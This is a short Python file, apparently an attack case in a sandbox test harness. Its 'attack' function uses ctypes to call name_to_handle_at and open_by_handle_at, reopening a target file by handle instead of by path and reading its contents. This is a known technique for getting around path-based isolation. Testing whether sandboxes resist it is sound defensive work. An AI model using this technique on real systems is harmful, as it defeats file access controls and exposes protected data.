"""Opens a trial by its handle, without a path."""

import ctypes
import os


def attack(world):
    library = ctypes.CDLL(None, use_errno=True)
    handle, mount = ctypes.create_string_buffer((128).to_bytes(4, "little"), 136), ctypes.c_int()
    if library.name_to_handle_at(-100, world["trial"].encode(), handle, ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno(), "no handle")
    folder = os.open(world["root"], os.O_RDONLY)
    file = library.open_by_handle_at(folder, handle, os.O_RDONLY)
    if file < 0:
        raise OSError(ctypes.get_errno(), "no opening")
    return os.read(file, 1000).decode()
